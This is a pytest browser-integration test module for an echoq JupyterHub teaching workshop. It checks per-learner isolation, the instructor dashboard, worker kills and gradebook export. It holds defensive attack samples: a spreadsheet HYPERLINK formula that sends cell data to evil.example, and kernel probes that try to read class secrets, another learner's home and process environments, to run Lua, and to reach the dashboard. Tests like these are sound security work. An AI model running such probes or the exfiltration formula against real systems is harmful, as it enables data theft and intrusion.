"""docs/WORKSHOP.md, literally: the guide's commands to a class of six names, three of them
logged in, and back.

The instructor's commands as the guide gives them (``.venv/bin/python -m echoq.teaching workshop up``,
``... workshop hub``, ``... workshop status``, ``... workshop export``, ``... workshop down``
and ``down --purge``): the class server, then JupyterHub from PyPI with
configurable-http-proxy from npm (``tools/hub-deps.sh`` installs it into build/hub),
``SharedPasswordAuthenticator`` and the class spawner (each learner's server and kernels as
a Unix user of their own, made by ``workshop hub``), all on 127.0.0.1. The roster holds the
names an instructor meets (``Katherine.Johnson@nasa.gov``, ``josé``, ``O'Brien``, ``ada
lovelace``, ``Grace-Hopper``, one of 40 characters): Ada and Katherine log in through
Chromium with the class password, José over HTTP (logged in, no lesson yet), the other three
never; the instructor with the instructor password. What every command printed is compared,
at the end, with the outputs the guide shows.

One hub, one browser and one class serve the module's tests, which run in file order
(pytest's own: the project runs no plugin that reorders tests) as the phases of one
workshop, each leaving the class as the next expects:

1. ``workshop hub`` prints the login details last, once the hub answers, its log in a file;
2. Ada and Katherine run lessons 00 and 02 (copied into their homes by the hub, with no
   Jupyter news) and see only their own queues; a click in Ada's lab moves her last activity;
3. each runs class chaos (one worker, and Run All stops in one line) and a notebook that
   reaches for the other's queue, refused in one line;
4. Ada's kernel, as her own Unix user, is refused every file of the class, Katherine's home
   and her kernels' environment, the dashboard, and EVAL on the class server, each in one
   line, and has no Terminal;
5. the instructor's first screen at 1366x768 holds where the class is and the first learners
   by name, in words true of people, no word broken across two lines, class chaos folded;
   opened, it produces jobs and kills Ada's worker: the kill travels over the server, the
   scoreboard keeps 0 lost and 0 duplicate effects; a learner's server opens from its link;
6. Katherine's kernels are killed with SIGKILL: the dashboard says "not alive" within
   seconds, and her page says its line is old;
7. the gradebook: one row per learner and exercise, a hostile submission neutralised, mode
   0600, the dashboard's download the command's file;
8. the hub stops promptly, the dashboard page says it is disconnected, ``down`` says what
   it leaves and ``down --purge`` leaves nothing. Later tests would have no hub.

Skipped with the reason only where node (npm) or Chromium cannot be installed, or where not
run as root (no Unix users can be made); under ``CI=true`` it fails instead.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import json
import os
import pwd
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import nbformat
import pytest

import echoq
from echoq.teaching import learner, presence, progress
from echoq.teaching.workshop import Workshop, board, classroom
from echoq.teaching.workshop.spawner import NEWS_SETTING, system_user
from tests.support.browser import (  # noqa: F401  (fixtures)
    ROOT,
    _free_port,
    _http_status,
    browser,
    chromium,
    new_context,
    poll,
    save_screenshot,
)
from tests.support.hub import (
    READY_S,
    _cannot,
    _descendants,
    alive,
    bring_to_front,
    close_again,
    errors_in,
    finished_outputs,
    give_to,
    kernels_of,
    learner_python,
    proxy_path,
    remove_test_users,
    run_cell,
    run_in_kernel,
    session_user_prefix,
    start_notebook,
    text_of,
)

pytestmark = pytest.mark.browser

PYTHON = str(ROOT / ".venv" / "bin" / "python") if (ROOT / ".venv" / "bin" / "python").exists() else sys.executable
# The guide's roster: the names an instructor meets (capitals, an accent, an apostrophe, a
# space, a hyphen, 40 characters).
ROSTER = [
    "Katherine.Johnson@nasa.gov", "josé", "O'Brien", "ada lovelace", "Grace-Hopper",
    "Alexandra Montgomery-Worthington Smythes",
]  # fmt: skip
KATHERINE, JOSE, OBRIEN, ADA = (learner.from_hub_user(name) for name in ROSTER[:4])  # learner ids: namespaces
NAMES = {learner.from_hub_user(name): name for name in ROSTER}
LEARNERS = (ADA, KATHERINE)  # in Chromium, running lessons
OTHER = {ADA: KATHERINE, KATHERINE: ADA}
TYPED = {ADA: "ada lovelace", KATHERINE: "Katherine.Johnson@nasa.gov"}  # what each types at the login page
INSTRUCTOR = "ada.teacher"
HOSTILE_CODE = '=HYPERLINK("http://evil.example/?"&A1,"click here")'  # a submission meant for a spreadsheet
LESSONS = ("00_start_here.ipynb", "02_recoverable_claim.ipynb")
CHAOS = "class_chaos.ipynb"
CHAOS_WORKER_CELL = 1  # `workshop.class_worker()`: "when your worker is killed, run the cell again"
PROBE = "workshop_probe.ipynb"


def probe_cells(other: str) -> list[str]:
    return [
        # What the class worker cell sets up first, without a second worker: class chaos runs one.
        "from echoq.teaching import workshop\n\nworkshop.one_line_errors()",
        f"import echoq\n\necho = echoq.Queue({other + '.lesson-02'!r}).snapshot()",  # someone else's queue
    ]


def guide(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """A command of the guide, run from the checkout's root as the guide runs them."""
    done = subprocess.run(
        [PYTHON, "-m", "echoq.teaching", "workshop", *args],
        capture_output=True, text=True, env=env, timeout=60, cwd=ROOT,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return done


@dataclass
class Class:
    """The workshop the guide's commands made, and its running hub."""

    folder: Path
    workshop: Workshop
    up: str  # what `workshop up` printed
    url: str
    process: subprocess.Popen[bytes]
    log: Path
    env: dict[str, str]
    homes: Path  # where the learners' homes are (`workshop hub --homes`)
    prefix: str  # their Unix users' prefix (`workshop hub --user-prefix`)
    below: list[int] = field(default_factory=list)  # the hub's processes, noted before it is stopped
    printed: dict[str, str] = field(default_factory=dict)  # each command of the guide -> what it printed

    def unix_user(self, lid: str) -> str:
        """The Unix user the learner's server and kernels run as."""
        return system_user(self.workshop.learners[lid].hub_user, self.prefix)

    def home(self, lid: str) -> Path:
        """Where the learner's notebooks are: their Unix user's home."""
        return Path(pwd.getpwnam(self.unix_user(lid)).pw_dir)

    def password(self, who: str) -> str:
        return (self.folder / "hub" / f"{who}-password").read_text().strip()


@pytest.fixture(scope="module")
def learners_space() -> Iterator[tuple[Path, str, str]]:
    """What learners may reach, outside the test's own folder (mode 0700): their homes and,
    where this Python is not reachable by them, a Python they can run; and the prefix of
    their Unix users. All of it, the users too, removed at the end."""
    if os.geteuid() != 0:
        _cannot("the class hub runs each learner as a Unix user of their own, which needs root")
    remove_test_users()  # those a killed session left behind
    shared = Path(tempfile.mkdtemp(prefix="echoq-hub-"))
    opened: list[tuple[Path, int]] = []  # folders opened for search (CI only), closed again at the end
    prefix = session_user_prefix()
    try:
        shared.chmod(0o755)
        (shared / "home").mkdir(mode=0o755)
        yield shared / "home", learner_python(shared / "python", opened), prefix
    finally:
        remove_test_users(prefix)
        shutil.rmtree(shared, ignore_errors=True)
        close_again(opened)


@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory, chromium: str, learners_space) -> Iterator[Class]:  # noqa: F811
    proxy_path()
    homes, python, prefix = learners_space
    tmp = tmp_path_factory.mktemp("guide")
    env = {k: v for k, v in os.environ.items() if k not in ("VALKEY_URL", "ECHOQ_WORKSHOP", "ECHOQ_LEARNER")}
    (tmp / "roster.txt").write_text("\n".join(ROSTER) + "\n")
    folder = tmp / "class"
    up = guide("up", "--dir", str(folder), "--roster", str(tmp / "roster.txt"), "--instructor", INSTRUCTOR, env=env)
    port = _free_port()
    log = tmp / "hub.out"  # what `workshop hub` prints; the hub's own log goes to <folder>/hub/hub.log
    with log.open("wb") as out:
        process = subprocess.Popen(
            [PYTHON, "-m", "echoq.teaching", "workshop", "hub", "--dir", str(folder), "--port", str(port),
             "--homes", str(homes), "--user-prefix", prefix, "--learner-python", python],  # fmt: skip
            stdout=out,
            stderr=subprocess.STDOUT,
            stdin=subprocess.DEVNULL,
            env=env,
            start_new_session=True,
            cwd=ROOT,
        )
    url = f"http://127.0.0.1:{port}"
    klass = Class(folder, Workshop.load(folder), up.stdout, url, process, log, env, homes, prefix)
    klass.printed["up"] = up.stdout
    try:
        deadline = time.monotonic() + READY_S
        while "is up at" not in log.read_text(errors="replace"):  # printed once the hub answers
            assert process.poll() is None and time.monotonic() < deadline, hub_said(klass)
            time.sleep(0.1)
        assert _http_status(klass.url + "/hub/api") == 200
        klass.printed["hub"] = log.read_text()
        yield klass
    finally:
        # Whatever a failed phase left (proxy, servers, the dashboard service, kernels): end
        # it at once rather than wait for each graceful shutdown; the class data goes with down.
        # Once the hub is reaped its pid may be another process's: only the living are ended.
        below = _descendants(process.pid) if process.poll() is None else []
        for pid in [*below, *klass.below]:
            with contextlib.suppress(ProcessLookupError):
                if alive(pid):
                    os.kill(pid, signal.SIGKILL)
        if process.poll() is None:
            process.kill()
        process.wait()
        if (folder / "workshop.json").exists():
            subprocess.run(
                [PYTHON, "-m", "echoq.teaching", "workshop", "down", "--dir", str(folder)], env=env, timeout=60
            )


def hub_said(klass: Class) -> str:
    """What `workshop hub` printed, and the end of the hub's own log: what a failure shows."""
    own = klass.folder / "hub" / "hub.log"
    tail = own.read_text(errors="replace")[-3000:] if own.exists() else "(no hub.log)"
    return f"{klass.log.read_text(errors='replace')}\n--- hub.log:\n{tail}"


def _caught(run, *args: object) -> BaseException | None:  # noqa: ANN001
    try:
        run(*args)
    except BaseException as exc:  # noqa: BLE001 - handed to the fixture's thread
        return exc
    return None


def log_in_over_http(url: str, user: str, password: str) -> None:
    """Log in as the login page does (its form and its _xsrf cookie) and let the hub start
    the server, as a browser would, without a browser: a learner logged in, no lesson yet."""
    import requests

    with requests.Session() as session:
        session.get(f"{url}/hub/login", timeout=60)
        form = {"username": user, "password": password, "_xsrf": session.cookies.get("_xsrf", "")}
        reply = session.post(f"{url}/hub/login?next=/hub/spawn", data=form, timeout=60)
        assert reply.status_code == 200 and "/hub/login" not in reply.url, (reply.status_code, reply.url)


@pytest.fixture(scope="module")
def pages(hub: Class, browser) -> Iterator[dict[str, object]]:  # noqa: F811
    """One browser context per person (their own cookies), each logged in as the guide says:
    learners with their roster name as typed (capitals and all) and the class password, the
    instructor with theirs, straight to the dashboard (no server of their own is spawned)."""
    for lid, other in OTHER.items():
        # Before the learner's server starts: the hub copies the lessons beside it and never
        # overwrites a notebook that is there.
        home = hub.home(lid)  # made by `workshop hub`, with its Unix user, before anyone logs in
        nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in probe_cells(other)])
        nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
        nbformat.write(nb, home / PROBE)
        give_to(home / PROBE, hub.unix_user(lid))
    # José logs in meanwhile (the hub takes its time to start a server): a thread of its own.
    jose: list[BaseException | None] = []
    password = hub.password("class")
    thread = threading.Thread(target=lambda: jose.append(_caught(log_in_over_http, hub.url, "josé", password)))
    thread.start()
    contexts, found = [], {}
    logins = {**TYPED, "teacher": INSTRUCTOR}
    for who, typed in logins.items():
        teacher = who == "teacher"
        context = new_context(browser, 768, 1366) if teacher else new_context(browser)  # a laptop's first screen
        contexts.append(context)
        page = context.new_page()
        page.goto(f"{hub.url}/hub/login?next={'/services/echoq-dashboard/' if teacher else '/hub/'}")
        page.fill("input[name=username]", typed)
        page.fill("input[name=password]", hub.password("instructor" if teacher else "class"))
        page.click("button[type=submit], input[type=submit]")
        found[who] = page
    for who, page in found.items():
        page.wait_for_url("**/services/echoq-dashboard/**" if who == "teacher" else "**/lab**", timeout=READY_S * 1000)
    thread.join(READY_S)
    assert jose == [None], jose
    yield found
    for context in contexts:
        context.close()


def learner_row(teacher, lid: str):
    """The learner's row in the dashboard's table of learners (their name in bold, first, their
    id small beside it); the scoreboard and the ACL's refusals have rows naming them too."""
    exact = re.compile(f"^{re.escape(lid)}$")
    rows = teacher.locator(".echoq-board table.learners tr")
    return rows.filter(has=teacher.locator("td:first-child .id").filter(has_text=exact))


def test_the_hub_prints_the_login_details_last_once_it_answers_and_logs_to_a_file_it_names(hub: Class) -> None:
    printed = hub.printed["hub"].splitlines()
    own_log = hub.folder / "hub" / "hub.log"
    assert printed[0] == f"starting JupyterHub; its log: {own_log}", printed
    assert printed[-3].startswith("JupyterHub for class 'class' is up at "), printed  # the login details, last
    assert printed[-2].endswith(f"the class password: {hub.password('class')}")  # the board's line
    assert printed[-1].startswith(f"  instructors ({INSTRUCTOR}) log in with the password in ")
    assert hub.password("instructor") not in hub.printed["hub"]  # the instructor's stays in its file
    logged = own_log.read_text(errors="replace")
    assert "JupyterHub" in logged and own_log.stat().st_mode & 0o777 == 0o600
    assert not [line for line in printed if line.startswith("[")]  # no line of the hub's log on the terminal


def test_up_then_both_learners_run_lessons_00_and_02_and_see_only_their_own_queues(hub: Class, pages) -> None:
    assert f"{len(ROSTER)} learner user(s)" in hub.up
    for lid in LEARNERS:
        for lesson in LESSONS:  # four kernels side by side
            start_notebook(pages[lid], lesson)
    for lesson in LESSONS:
        for lid in LEARNERS:
            outputs = finished_outputs(pages[lid], lesson)
            assert errors_in(outputs) == [], f"{lid} in {lesson}: {errors_in(outputs)}"
            shown = text_of(outputs)
            assert f"This lesson uses the queue '{lid}.lesson-{lesson[:2]}'" in shown
            assert f"{OTHER[lid]}." not in shown and "emq:{lesson-" not in shown  # nobody else's queue, no bare one
    admin = hub.workshop.admin()
    for lid in LEARNERS:
        assert set(progress.read(admin, lid).lessons) >= {"00", "02"}
        assert any(admin.scan_iter(match=f"emq:{{{lid}.lesson-02}}:*", count=1000))
    # Running the lessons knocked on no closed door: the ACL refused them nothing.
    assert [e for e in admin.acl_log(count=100) if e["username"] in LEARNERS] == []
    page = pages[KATHERINE]
    bring_to_front(page, LESSONS[1])
    page.get_by_text(f"This lesson uses the queue '{KATHERINE}.lesson-02'").scroll_into_view_if_needed()
    save_screenshot(page.screenshot(), "workshop-lab-katherine.png")
    # The hub answered JupyterLab's news question for each learner: no pop-up over a lesson.
    for lid in LEARNERS:
        setting = hub.home(lid).joinpath(*NEWS_SETTING)
        assert json.loads(setting.read_text())["fetchNews"] == "false"
        assert setting.stat().st_uid == pwd.getpwnam(hub.unix_user(lid)).pw_uid
        assert pages[lid].get_by_text("official Jupyter news").count() == 0
    # A click in Ada's lab (no cell runs) moves her last activity on the class server.
    before = progress.read(admin, ADA).active_ms
    ada = pages[ADA]
    bring_to_front(ada, LESSONS[1])
    enqueue = ada.locator(".jp-OutputArea button", has_text="enqueue").first
    enqueue.scroll_into_view_if_needed()
    enqueue.click()
    poll(lambda: progress.read(admin, ADA).active_ms > before, 30, "Ada's lab click to reach her last activity")


def test_class_chaos_starts_one_worker_each_and_the_other_ones_queue_is_refused_in_one_line(hub: Class, pages) -> None:
    for lid in LEARNERS:
        start_notebook(pages[lid], PROBE)
        start_notebook(pages[lid], CHAOS)  # opened last: in front, where its worker's line shows
    for lid in LEARNERS:
        # Run All: the class worker starts, the practice part stops in one line (no second worker).
        (error,) = errors_in(finished_outputs(pages[lid], CHAOS))
        assert error.startswith("InvalidArgument: this part is for learners alone"), error
        pages[lid].get_by_text(f"Worker of {lid} running").wait_for(timeout=30_000)
        outputs = finished_outputs(pages[lid], PROBE)
        (error,) = errors_in(outputs)
        assert error.startswith("PermissionDenied: ") and "\n" not in error, error
        (shown,) = [o["traceback"] for cell in outputs for o in cell if o["output_type"] == "error"]
        assert len(shown) == 1 and "\n" not in shown[0], shown  # one line on screen, no traceback
        assert f"emq:{{{OTHER[lid]}.lesson-02}}" in error or "claim" in error or "snapshot" in error, error
    refused = [e for e in hub.workshop.admin().acl_log(count=100) if e["username"] in LEARNERS]
    assert {e["username"] for e in refused} == set(LEARNERS)
    assert all(e["object"].startswith(f"emq:{{{OTHER[e['username']]}.") for e in refused), refused
    instructor = echoq.connect(hub.workshop.instructor_url)
    pulses = {lid: presence.parse(instructor.get(presence.alive_key(lid))) for lid in LEARNERS}
    assert all(pulses.values()), pulses  # Katherine is on the class server too, under her own id


# What a learner's kernel tries against the class's secrets and the other learner: each
# target, read (a file) or listed (a folder); the outcome in one word.
ATTACK = """
import json, os
def attempt(path):
    try:
        os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1)
        return "READ"
    except PermissionError:
        return "refused"
    except OSError as exc:
        return type(exc).__name__
print(json.dumps({"uid": os.getuid(), "euid": os.geteuid(), "found": {p: attempt(p) for p in TARGETS}}))
"""


# What else her kernel tries: Lua on the class server, and the dashboard with her hub token.
REFUSED_TOO = """
import json, os, urllib.error, urllib.request
import echoq
from echoq.teaching import course
said = {}
try:
    echoq.connect().eval("return 1", 0)
    said["eval"] = "RAN"
except Exception as exc:
    said["eval"] = "{}: {}".format(*course.explain(exc))  # the line her notebook shows
token = {"Authorization": "token " + os.environ["JUPYTERHUB_API_TOKEN"]}
try:
    urllib.request.urlopen(urllib.request.Request(DASHBOARD, headers=token), timeout=60).read(1)
    said["dashboard"] = "READ"
except urllib.error.HTTPError as exc:
    said["dashboard"] = f"HTTP {exc.code}: {exc.reason}"
print(json.dumps(said))
"""


def test_adas_kernel_runs_as_her_own_unix_user_and_is_refused_every_secret_and_katherines_home(
    hub: Class, pages
) -> None:
    ada, katherine = hub.unix_user(ADA), hub.unix_user(KATHERINE)
    ada_uid = pwd.getpwnam(ada).pw_uid
    (kernel, *_) = kernels_of(hub.process.pid, hub.workshop.learners[ADA].hub_user)
    her_kernels = kernels_of(hub.process.pid, hub.workshop.learners[KATHERINE].hub_user)
    assert her_kernels and os.stat(f"/proc/{kernel}").st_uid == ada_uid != 0
    assert {os.stat(f"/proc/{pid}").st_uid for pid in her_kernels} == {pwd.getpwnam(katherine).pw_uid}
    # Every file of the class (the workshop folder: state, roster, snippet, the server's config
    # and data, the hub's passwords, database and cookie secret): root's, mode 0600.
    secrets = [Path(d) / f for d, _, files in os.walk(hub.folder) for f in files]
    assert {"workshop.json", "roster.json", "class-password", "instructor-password", "cookie_secret",
            "jupyterhub.sqlite", "server.conf"} <= {p.name for p in secrets}  # fmt: skip
    loose = [f"{p} {p.stat().st_mode & 0o777:o} uid {p.stat().st_uid}" for p in secrets
             if p.stat().st_mode & 0o077 or p.stat().st_uid != os.geteuid()]  # fmt: skip
    assert loose == [], loose
    homes = {lid: hub.home(lid) for lid in LEARNERS}
    assert all(h.stat().st_mode & 0o777 == 0o700 for h in homes.values()), homes
    assert not any(hub.folder in h.parents for h in homes.values())  # no secret in a home, no home by a secret
    targets = [str(p) for p in secrets] + [str(hub.folder), str(homes[KATHERINE]), str(homes[KATHERINE] / PROBE)]
    targets += [f"/proc/{pid}/environ" for pid in her_kernels]
    printed = run_in_kernel(kernel, f"TARGETS = {targets!r}\n{ATTACK}")
    found = json.loads(printed.strip().splitlines()[-1])
    assert found["uid"] == found["euid"] == ada_uid
    assert {p: r for p, r in found["found"].items() if r != "refused"} == {}, printed
    # Her own kernel holds her own URL and nothing of anyone else's (as root reads it).
    environ = Path(f"/proc/{kernel}/environ").read_bytes().decode(errors="replace")
    assert f"VALKEY_URL={hub.workshop.learner_url(ADA)}" in environ.split("\0")
    others = [hub.workshop.learners[KATHERINE].password, hub.workshop.instructor_password, hub.password("class")]
    assert not [word for word in others if word in environ]
    # Nor may her kernel run Lua on the class server, or read the instructor's dashboard with
    # her server's own hub token: each refused in one line.
    said = json.loads(run_in_kernel(kernel, f"DASHBOARD = {hub.url + '/services/echoq-dashboard/'!r}\n{REFUSED_TOO}")
                      .strip().splitlines()[-1])  # fmt: skip
    assert said["eval"].startswith("PermissionDenied: ") and "\n" not in said["eval"], said
    assert "runs only the library's scripts" in said["eval"] and "your own private server" in said["eval"], said
    assert said["dashboard"] == "HTTP 403: Forbidden", said
    # No Terminal: the learner's server has no terminals API at all.
    status = pages[ADA].evaluate(
        "(url) => fetch(url).then(r => r.status)", f"/user/{hub.workshop.learners[ADA].hub_user}/api/terminals"
    )
    assert status == 404, status


# The instructor's first screen, measured in the page: how far down "Where the class is" and
# each row of learners end, and every word of the board's tables that a line breaks in two.
FIRST_SCREEN = """() => {
    const heads = [...document.querySelectorAll('.echoq-board h3')];
    const head = (text) => heads.find(h => h.textContent.trim() === text);
    const learners = head('Learners').nextElementSibling.querySelectorAll('tr');
    const broken = [];
    for (const cell of document.querySelectorAll('.echoq-board td, .echoq-board th')) {
        const texts = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
        for (let node = texts.nextNode(); node; node = texts.nextNode()) {
            for (const word of node.data.matchAll(/\\S+/g)) {
                const range = document.createRange();
                range.setStart(node, word.index);
                range.setEnd(node, word.index + word[0].length);
                const lines = new Set([...range.getClientRects()].map(r => Math.round(r.top)));
                if (lines.size > 1) broken.push(word[0]);
            }
        }
    }
    return {height: window.innerHeight, width: window.innerWidth,
            where: head('Where the class is').getBoundingClientRect().bottom,
            rows: [...learners].slice(1).filter(r => r.getBoundingClientRect().bottom <= window.innerHeight).length,
            broken};
}"""


def test_the_first_screen_shows_where_the_class_is_and_its_people_by_name_then_class_chaos_with_a_kill(
    hub: Class, pages
) -> None:
    ada, teacher = pages[ADA], pages["teacher"]
    main = teacher.locator(".echoq-board").first
    main.wait_for(timeout=READY_S * 1000)
    for lid in LEARNERS:
        learner_row(teacher, lid).first.wait_for(timeout=30_000)
    refused = [f"emq:{{{lid}.lesson-02}}" for lid in LEARNERS]
    for key in refused:  # the board refreshes every second: one read after the refusals above
        teacher.get_by_text(key).first.wait_for(timeout=30_000)
    # People, in words true of them: José logged in and ran nothing, O'Brien never came.
    learner_row(teacher, JOSE).get_by_text("logged in, no lesson yet").wait_for(timeout=30_000)
    learner_row(teacher, OBRIEN).get_by_text("never logged in").wait_for(timeout=30_000)
    for lid in LEARNERS:
        assert learner_row(teacher, lid).get_by_text("in lesson 02").is_visible()
        assert learner_row(teacher, lid).locator("b").first.inner_text() == NAMES[lid]  # the roster's name
    rows = main.inner_text()
    assert "00, 02" in rows, rows  # lessons reached, both learners
    assert all(key in rows for key in refused), rows  # refused accesses: who, which key
    assert "local time" in rows  # the instructor's own clock, said so
    # The first screen of a 1366x768 laptop: where the class is and the first learners, every
    # word whole, class chaos folded.
    teacher.evaluate("() => window.scrollTo(0, 0)")
    first = teacher.evaluate(FIRST_SCREEN)
    assert (first["width"], first["height"]) == (1366, 768), first
    assert first["where"] < first["height"] and first["rows"] >= 2, first
    assert first["broken"] == [], first
    assert not teacher.get_by_text("Class queue").first.is_visible()  # the scoreboard, folded
    save_screenshot(teacher.screenshot(), "workshop-first-screen.png")
    # One click to help: the link on Ada's row opens her server, through the hub, for an instructor.
    link = learner_row(teacher, ADA).locator("a", has_text="open").get_attribute("href")
    assert link == f"/user/{quote(hub.workshop.learners[ADA].hub_user, safe='')}/lab", link
    opened = "(url) => fetch(url).then(r => [r.status, r.url])"  # through the hub's login for that server
    status, landed = teacher.evaluate(opened, link)
    assert status == 200 and "/hub/" in landed or landed.endswith(link), (status, landed)
    assert pages[KATHERINE].evaluate(opened, link)[0] == 403  # the link is an instructor's, not a learner's
    hub.printed["status"] = guide("status", "--dir", str(hub.folder), env=hub.env).stdout
    # Class chaos, opened: produce jobs, kill Ada's worker from the page; the kill travels over the server.
    teacher.get_by_text("Class chaos: produce jobs, kill workers, the scoreboard").click()
    teacher.get_by_text("Class queue").first.wait_for(timeout=30_000)
    teacher.locator(".widget-text input").first.fill("40")
    teacher.get_by_role("button", name="produce jobs").click()
    teacher.get_by_text("Produced 40 jobs").wait_for(timeout=30_000)
    instructor = echoq.connect(hub.workshop.instructor_url)
    delivered = classroom.score_key(ADA)
    poll(lambda: int(instructor.hget(delivered, "delivered") or 0) >= 2, 60, "Ada's worker to take 2 jobs")
    teacher.locator("select").first.select_option(label=NAMES[ADA])
    teacher.get_by_role("button", name="kill worker", exact=True).click()
    # In Ada's own notebook (its first cell tells of a worker "killed by the instructor" too).
    killed = ada.get_by_text(f"Worker of {ADA} KILLED by the instructor")
    killed.wait_for(timeout=30_000)
    teacher.locator(".echoq-board td.killed", has_text="killed").wait_for(timeout=30_000)

    def drained() -> classroom.Scoreboard | None:
        score = classroom.read_scoreboard(instructor, LEARNERS, klass=hub.workshop.class_name)
        return score if score.jobs and score.completed == score.jobs else None

    score = poll(drained, 90, "the class queue to drain")
    assert score.total.lost == 0 and score.total.duplicates == 0 and score.total.effects == score.jobs
    assert score.by_learner[ADA].worker == "killed" and score.by_learner[KATHERINE].worker == "running"
    teacher.get_by_text(f"{score.jobs} jobs produced, {score.jobs} completed").wait_for(timeout=30_000)
    assert teacher.get_by_text("no job lost, no effect duplicated").first.is_visible()
    teacher.set_viewport_size({"width": 1366, "height": 1800})  # the whole page, class chaos open, in one picture
    teacher.evaluate("() => window.scrollTo(0, 0)")
    save_screenshot(teacher.screenshot(), "workshop-dashboard.png")
    killed.evaluate("e => e.closest('.jp-Cell').scrollIntoView()")  # Run All left the notebook at its end
    save_screenshot(ada.screenshot(), "workshop-lab-ada.png")
    # A learner may not open the instructor's page (a page of her own: hers stays on her lab).
    peek = pages[KATHERINE].context.new_page()
    denied = peek.goto(hub.url + "/services/echoq-dashboard/")
    assert denied is not None and denied.status == 403
    peek.close()


def test_her_kernels_killed_with_sigkill_show_as_not_alive_and_her_page_says_its_line_is_old(hub: Class, pages) -> None:
    ada, katherine, teacher = pages[ADA], pages[KATHERINE], pages["teacher"]
    # Ada rejoins as a killed learner does, so her readout is a running worker's, redrawn
    # while her kernel lives: the line that must not turn old below.
    run_cell(ada, CHAOS, CHAOS_WORKER_CELL)
    ada.get_by_text(f"Worker of {ADA} running").wait_for(timeout=30_000)
    bring_to_front(katherine, CHAOS)  # where her worker's line is, and the note that it is old
    row = learner_row(teacher, KATHERINE)
    row.get_by_text("alive", exact=True).wait_for(timeout=15_000)
    row.get_by_text("running", exact=True).wait_for(timeout=15_000)  # her server, as the hub says
    # Every kernel of hers (lessons 00 and 02, the probe, class chaos) pulses her one presence
    # key: she is "not alive" only once all of them are gone.
    instructor = echoq.connect(hub.workshop.instructor_url)
    pulse = presence.parse(instructor.get(presence.alive_key(KATHERINE)))
    kernels = kernels_of(hub.process.pid, hub.workshop.learners[KATHERINE].hub_user)
    assert pulse is not None and pulse.pid in kernels and len(kernels) == len(LESSONS) + 2, (pulse, kernels)
    for pid in kernels:
        os.kill(pid, signal.SIGKILL)  # kill -9
    killed = time.monotonic()
    row.get_by_text("not alive").wait_for(timeout=15_000)
    noticed_s = time.monotonic() - killed
    assert noticed_s < presence.TTL_MS / 1000 + 8, noticed_s  # the pulse's TTL, then a refresh and a paint
    assert learner_row(teacher, ADA).get_by_text("alive", exact=True).is_visible()
    # Her own page no longer claims her worker runs: its readout says the line is old.
    katherine.get_by_text("the line above is old").wait_for(state="visible", timeout=15_000)
    assert not ada.get_by_text("the line above is old").is_visible()  # Ada's kernel lives


def test_the_gradebook_has_every_name_and_exercise_neutralised_private_and_the_dashboards_file(
    hub: Class, pages, monkeypatch: pytest.MonkeyPatch
) -> None:
    with echoq.connect(hub.workshop.learner_url(ADA)) as ada:  # a submission meant for a spreadsheet
        monkeypatch.setenv("ECHOQ_LEARNER", ADA)
        progress.record_check(ada, "02", "claim", False, "deadline-in-the-past", code=HOSTILE_CODE)
    out = {kind: hub.folder.parent / f"gradebook.{kind}" for kind in ("csv", "json")}
    done = guide("export", "--dir", str(hub.folder), "--csv", str(out["csv"]), "--json", str(out["json"]), env=hub.env)
    hub.printed["export"] = done.stdout
    assert all(path.stat().st_mode & 0o777 == 0o600 for path in out.values())  # the instructor's alone
    text = out["csv"].read_bytes().decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    exercises = board.exercises_of()
    assert len(rows) == len(ROSTER) * len(exercises), len(rows)  # every name x every exercise
    assert {r["name"] for r in rows} == set(ROSTER)  # as the roster wrote them
    never = [r for r in rows if r["learner"] == OBRIEN]  # never logged in: there all the same
    assert len(never) == len(exercises) and {(r["status"], r["tries"]) for r in never} == {("not started", "0")}
    claim = next(r for r in rows if r["learner"] == ADA and r["exercise"] == "claim")
    assert (claim["status"], claim["last_code"]) == ("not yet", "'" + HOSTILE_CODE), claim  # text, never a formula
    graded = {(r["learner"], r["exercise"]): r for r in json.loads(out["json"].read_text())}
    assert graded[ADA, "claim"]["last_code"] == HOSTILE_CODE  # the JSON keeps it as it is
    # The dashboard's download is the command's file.
    teacher = pages["teacher"]
    teacher.get_by_role("button", name="gradebook").click()
    link = teacher.locator("a[download='echoq-gradebook.csv']")
    link.wait_for(timeout=30_000)
    href = link.get_attribute("href")
    assert base64.b64decode(href.split("base64,", 1)[1]).decode() == text


def test_the_hub_stops_promptly_the_page_says_disconnected_down_says_what_it_leaves_and_purge_leaves_nothing(
    hub: Class, pages
) -> None:
    teacher = pages["teacher"]
    hub.below[:] = _descendants(hub.process.pid)  # the hub itself: its wait below says it ended
    hub.process.send_signal(signal.SIGTERM)  # the instructor's Ctrl-C
    stopping = time.monotonic()
    hub.process.wait(30)
    stop_s = time.monotonic() - stopping
    assert stop_s < 20, f"the hub took {stop_s:.1f} s to stop"  # each server gets 3 s; a hang was 30+ s
    teacher.locator(".echoq-disconnected").wait_for(state="visible", timeout=15_000)
    assert "Disconnected" in teacher.locator(".echoq-disconnected").inner_text()
    down = guide("down", "--dir", str(hub.folder), env=hub.env)
    hub.printed["down"] = down.stdout
    assert "stopped the class server" in down.stdout
    assert f"left: {hub.folder / 'hub'}" in down.stdout and "down --purge" in down.stdout  # said, not hidden
    left = [pid for pid in [*hub.below, hub.workshop.server_pid] if pid and alive(pid)]
    assert left == [], left
    assert [p.name for p in hub.folder.iterdir()] == ["hub"]
    purged = guide("down", "--purge", "--dir", str(hub.folder), env=hub.env)
    hub.printed["down --purge"] = purged.stdout
    assert not hub.folder.exists()  # every secret of the class gone: the folder too


def test_every_output_the_guide_shows_is_what_its_command_printed(hub: Class) -> None:
    """docs/WORKSHOP.md shows what each command prints (a block after ``<!-- output: NAME -->``):
    the same lines, in the same order, as printed here, but for paths, numbers (ports, pids,
    versions, counts, the ids' hashes) and the class password."""
    shown = guide_outputs()
    assert set(shown) == set(hub.printed), (sorted(shown), sorted(hub.printed))
    for name, printed in hub.printed.items():
        assert normalised(shown[name]) == normalised(printed), f"the guide's output of `{name}` differs:\n{printed}"


